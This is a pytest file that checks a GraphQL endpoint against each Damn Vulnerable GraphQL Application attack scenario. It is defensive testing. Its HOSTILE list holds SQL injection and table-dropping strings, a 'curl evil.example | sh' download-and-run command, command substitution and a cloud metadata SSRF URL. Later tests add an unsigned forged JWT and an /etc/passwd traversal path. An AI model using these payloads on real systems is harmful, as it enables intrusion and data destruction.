"""Every scenario of Damn Vulnerable GraphQL Application, as its README lists them
(github.com/dolevf/Damn-Vulnerable-GraphQL-Application): a test each, over the endpoint of production."""

import re
from typing import Any

import pytest
from tests.unit.graphql.security.production import ask, attacked, code
from tests.unit.graphql.serving import CannedReader

from masthead.graphql import schema_of, sdl
from masthead.model import default_model

HOSTILE = [
    "'; DROP TABLE live.post; --",
    "x' UNION SELECT current_user --",
    "$1::text) OR true --",
    "; curl http://evil.example | sh",
    "$(id)",
    "http://169.254.169.254/latest/meta-data",
    "<script>alert(1)</script>",
    "\\'); --",
]


async def test_reconnaissance_fingerprinting() -> None:
    """Fingerprinting GraphQL: neither headers nor errors name a library, a language or a version."""
    for document in ("query cop { __typename }", "query cop { nope }", "{", "query cop @skip(if: 1) { a }"):
        response = await ask(document)
        told = response.text.lower() + str(dict(response.headers)).lower()
        assert not re.search(r"graphql-core|graphene|python|starlette|granian|x-powered-by|postgres", told)


async def test_denial_of_service_batch_query() -> None:
    """Batch Query Attack: no arrays unless allowed, and then at most as many as the setting says."""
    batch = [{"query": "{ __typename }"}] * 3
    async with attacked() as http:
        assert code(await http.post("/graphql", json=batch)) == "BATCH_EXCEEDED"
    async with attacked(graphql_batch=2) as http:
        assert code(await http.post("/graphql", json=batch)) == "BATCH_EXCEEDED"
        assert len((await http.post("/graphql", json=batch[:2])).json()) == 2


async def test_denial_of_service_deep_recursion() -> None:
    """Deep Recursion Query Attack: objects inside objects end at a depth."""
    levels = 8
    document = "query cop { tags(first: 1) { nodes { " + "posts(first: 1) { nodes { tags { " * levels
    assert code(await ask(document + "id" + " } } }" * levels + " } } }")) == "DEPTH_EXCEEDED"


async def test_denial_of_service_resource_intensive() -> None:
    """Resource Intensive Query Attack: what costs too much is refused before PostgreSQL hears of it."""
    reader = CannedReader()
    inner = "posts(first: 500) { nodes { tags { posts(first: 500) { nodes { id } } } } }"
    document = f"query cop {{ authors(first: 500) {{ nodes {{ {inner} }} }} }}"
    assert code(await ask(document, reader)) == "COST_EXCEEDED"
    assert reader.asked == []


async def test_denial_of_service_field_duplication() -> None:
    """Field Duplication Attack: also when fragments repeat the field."""
    fragments = " ".join(f"fragment F{n} on Tag {{ {'name ' * 30} }}" for n in range(5))
    spread = " ".join(f"...F{n}" for n in range(5))
    document = f"query cop {{ tags {{ nodes {{ {spread} }} }} }} {fragments}"
    assert code(await ask(document)) == "REPEATS_EXCEEDED"


async def test_denial_of_service_aliases() -> None:
    """Aliases based Attack: one dear field under many names."""
    aliases = " ".join(f"q{n}: posts {{ totalCount }}" for n in range(51))
    assert code(await ask(f"query cop {{ {aliases} }}")) == "ALIASES_EXCEEDED"
    assert code(await ask(f"query cop {{ {aliases} }}", graphql_aliases=60)) == "ROOT_FIELDS_EXCEEDED"


async def test_denial_of_service_circular_fragment() -> None:
    """Circular Fragment (solution 20 of the application): a fragment may not spread itself."""
    document = "query cop { ...A } fragment A on Query { ...B } fragment B on Query { ...A }"
    assert code(await ask(document)) == "GRAPHQL_VALIDATION_FAILED"


async def test_information_disclosure_introspection() -> None:
    """GraphQL Introspection: off, and `__typename` is all that is told."""
    assert code(await ask("query cop { __schema { queryType { name } } }")) == "INTROSPECTION_DISABLED"
    assert (await ask("query cop { __typename }")).status_code == 200


@pytest.mark.parametrize("cookie", ["", "env=graphiql:enable", "env=Z3JhcGhpcWw6ZW5hYmxl"])
async def test_information_disclosure_graphiql(cookie: str) -> None:
    """GraphiQL Interface, and GraphQL Interface Protection Bypass: no cookie turns it on."""
    async with attacked() as http:
        response = await http.get("/graphql", headers={"accept": "text/html", "cookie": cookie})
    assert response.status_code == 406
    assert "text/html" not in response.headers["content-type"]


async def test_information_disclosure_suggestions() -> None:
    """GraphQL Field Suggestions: none."""
    assert "Did you mean" not in (await ask("query cop { systemUpdat }")).text


async def test_information_disclosure_stack_trace() -> None:
    """Stack Trace Errors: what breaks inside is a code outside."""
    response = await ask(
        "query cop { posts { totalCount } }", CannedReader(RuntimeError("secret at /srv/app.py"))
    )
    assert (response.status_code, code(response)) == (500, "INTERNAL_SERVER_ERROR")
    assert not re.search(r"secret|Traceback|\.py|line \d+", response.text)


@pytest.mark.parametrize("text", HOSTILE)
async def test_injection_and_code_execution(text: str) -> None:
    """SQL Injection, OS Command Injection #1 and #2, Server Side Request Forgery: what a client writes
    reaches one place, a parameter of the one statement, and is no part of its text."""
    reader = CannedReader()
    async with attacked(reader) as http:
        literal = text.replace("\\", "\\\\").replace('"', '\\"')
        for body in (
            {"query": "query ($s: String) { post(slug: $s) { id } }", "variables": {"s": text}},
            {"query": f'{{ post(slug: "{literal}") {{ id }} }}'},
        ):
            assert (await http.post("/graphql", json=body)).status_code == 200
    for sql, arguments in reader.asked:
        assert text not in sql
        assert list(arguments) == [text]
    assert len(reader.asked) == 2


async def test_injection_html() -> None:
    """Stored Cross Site Scripting, HTML Injection: what an error repeats is JSON and is never called HTML.
    What is stored is sanitised when it is written (tests/unit/markdown/test_safety.py)."""
    async with attacked() as http:
        response = await http.post(
            "/graphql", json={"query": "{ post { id } }", "operationName": "<script>alert(1)</script>"}
        )
    assert response.headers["content-type"] == "application/json; charset=utf-8"
    assert "<script>" in response.json()["errors"][0]["message"]


async def test_injection_log_spoofing(capsys: pytest.CaptureFixture[str]) -> None:
    """Log spoofing / Log Injection: a made-up operation name is refused before anything is logged."""
    async with attacked(CannedReader(RuntimeError("broken"))) as http:
        name = "a\n2026-01-01 [error] all is lost"
        response = await http.post(
            "/graphql", json={"query": "{ posts { totalCount } }", "operationName": name}
        )
    assert code(response) == "OPERATION_RESOLUTION_FAILURE"
    assert "all is lost" not in "".join(capsys.readouterr())


async def test_authorization_bypass_token_forge() -> None:
    """GraphQL JWT Token Forge: nobody reads a token here, so none is worth forging."""
    async with attacked(CannedReader(b'{"totalCount":1}')) as http:
        body = {"query": "{ posts { totalCount } }"}
        plain = await http.post("/graphql", json=body)
        forged = await http.post(
            "/graphql", json=body, headers={"authorization": "Bearer eyJhbGciOiJub25lIn0."}
        )
    assert plain.content == forged.content


async def test_authorization_bypass_deny_list(tmp_path: Any) -> None:
    """GraphQL Query Deny List Bypass: a list of what is allowed compares whole documents, so no alias,
    operation name or spelling gets around it."""
    (tmp_path / "site.graphql").write_text("query Site { site { title } }")
    settings = {"graphql_operations": tmp_path, "graphql_trusted": "only"}
    async with attacked(CannedReader(b'{"title":"x"}'), **settings) as http:
        for query in ("query Site { site { title } }", "query Site { a: site { title } }"):
            response = await http.post("/graphql", json={"query": query, "operationName": "Site"})
            if " a:" in query:
                assert (response.status_code, code(response)) == (403, "OPERATION_NOT_TRUSTED")
            else:
                assert response.status_code == 200


def test_miscellaneous_weak_password() -> None:
    """GraphQL Query Weak Password Protection: the schema knows no secret, and nothing takes one."""
    assert not re.search(r"password|secret|token|credential", sdl(default_model()), re.IGNORECASE)


async def test_miscellaneous_file_write() -> None:
    """Arbitrary File Write // Path Traversal: nothing writes, and an id of a document is no path."""
    schema = schema_of(default_model())
    assert schema.mutation_type is None
    async with attacked() as http:
        response = await http.post("/graphql", json={"documentId": "../../../../etc/passwd"})
    assert code(response) == "PERSISTED_QUERY_NOT_FOUND"
    assert "root:" not in response.text
